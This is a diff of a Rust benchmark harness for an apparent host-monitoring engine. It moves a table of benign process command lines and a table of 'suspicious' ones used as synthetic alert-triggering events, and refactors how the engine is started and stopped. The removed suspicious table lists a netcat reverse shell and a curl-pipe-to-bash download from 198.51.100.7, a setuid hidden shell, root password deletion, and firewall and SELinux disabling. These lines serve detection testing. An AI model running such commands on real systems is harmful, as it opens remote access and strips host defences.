@@ -18,6 +18,7 @@ use vedette_engine::sensor::read_control;
 use vedette_schemas::frame::{self, ALPN, Control, Encoding, Hello, PROTOCOL_VERSION};
 
 use crate::fleet::{clock_ticks, cpu_ticks, free_port, proc_status};
+use crate::mix::{PROGRAMS, SUSPICIOUS};
 
 /// What to run.
 pub struct Load {
@@ -80,41 +81,6 @@ impl Template {
         }
     }
 }
-
-const PROGRAMS: &[(&str, &str)] = &[
-    ("/usr/bin/python3", "python3 /opt/app/worker.py --job {n} --queue default"),
-    ("/usr/bin/bash", "bash -c 'cd /var/lib/app && ./run.sh {n}'"),
-    ("/usr/sbin/sshd", "sshd: app [priv] {n}"),
-    ("/usr/bin/git", "git fetch origin refs/heads/main --depth {n}"),
-    ("/usr/bin/node", "node /srv/web/server.js --port 8080 --worker {n}"),
-    ("/usr/bin/java", "java -Xmx2g -jar /opt/kafka/libs/app.jar --id {n}"),
-    ("/usr/bin/jq", "jq -r .items[{n}].name /srv/data/items.json"),
-    ("/usr/bin/ls", "ls -la /home/app/{n}"),
-    ("/usr/bin/gzip", "gzip -9 /var/log/app/{n}.log"),
-    ("/usr/bin/tar", "tar czf /backup/{n}.tgz /srv/data"),
-    ("/usr/bin/systemctl", "systemctl status app-{n}.service"),
-    ("/usr/bin/docker", "docker run --rm -v /data:/data image:{n}"),
-    ("/usr/bin/make", "make -j2 target-{n}"),
-    ("/usr/bin/rsync", "rsync -az /srv/ backup:/srv/{n}/"),
-    ("/usr/bin/awk", "awk -F: '{print $1}' /tmp/{n}.txt"),
-    ("/usr/bin/sed", "sed -n 1,5p /srv/app/{n}.txt"),
-    ("/usr/bin/du", "du -sh /var/tmp/{n}"),
-    ("/usr/bin/ps", "ps aux --sort -rss {n}"),
-    ("/usr/bin/cron", "/usr/sbin/CRON -f {n}"),
-    ("/usr/bin/perl", "perl -e 'print {n}'"),
-];
-const SUSPICIOUS: &[(&str, &str)] = &[
-    ("/usr/bin/base64", "base64 -d /tmp/payload.b64"),
-    ("/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444"),
-    ("/usr/bin/chmod", "chmod +s /tmp/.x/bash"),
-    ("/usr/bin/crontab", "crontab -r"),
-    ("/usr/sbin/iptables", "iptables -F"),
-    ("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh | bash"),
-    ("/usr/bin/python3", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
-    ("/usr/bin/wget", "wget http://198.51.100.7/a -O /tmp/a"),
-    ("/usr/bin/setenforce", "setenforce 0"),
-    ("/usr/bin/passwd", "passwd -d root"),
-];
 
 /// One event of the mix (`ts` left as the sentinel), and whether it should alert.
 fn event(table: &str, n: usize, host: &str, every: usize) -> (serde_json::Value, bool) {
@@ -563,14 +529,7 @@ pub async fn run(load: Load) -> anyhow::Result<()> {
             Err(e) => failed.push(e.to_string()),
         }
     }
-    drop(child.stdin.take());
-    let _ = tokio::time::timeout(Duration::from_secs(20), async {
-        while child.try_wait().ok().flatten().is_none() {
-            tokio::time::sleep(Duration::from_millis(50)).await;
-        }
-    })
-    .await;
-    let _ = child.kill();
+    crate::fleet::stop_engine(&mut child, Duration::from_secs(20)).await;
 
     let q = |p: f64| if hist.is_empty() { 0.0 } else { hist.value_at_quantile(p) as f64 / 1000.0 };
     let events_per_sec = acked as f64 / measured;
@@ -833,8 +792,12 @@ async fn quinn_peer(
 
 /// The engine of the bench, in this process (the parent started it): `engine --config FILE`.
 pub async fn engine(config: &Path) -> anyhow::Result<()> {
-    let text = std::fs::read_to_string(config)?;
-    let engine = vedette_engine::EngineHandle::start(vedette_config::Config::from_toml_str(&text)?).await?;
+    serve(&std::fs::read_to_string(config)?).await
+}
+
+/// Runs an engine on this config until the parent closes our stdin.
+pub async fn serve(config: &str) -> anyhow::Result<()> {
+    let engine = vedette_engine::EngineHandle::start(vedette_config::Config::from_toml_str(config)?).await?;
     tokio::task::spawn_blocking(|| {
         let mut buf = [0u8; 1];
         let _ = std::io::Read::read(&mut std::io::stdin(), &mut buf);
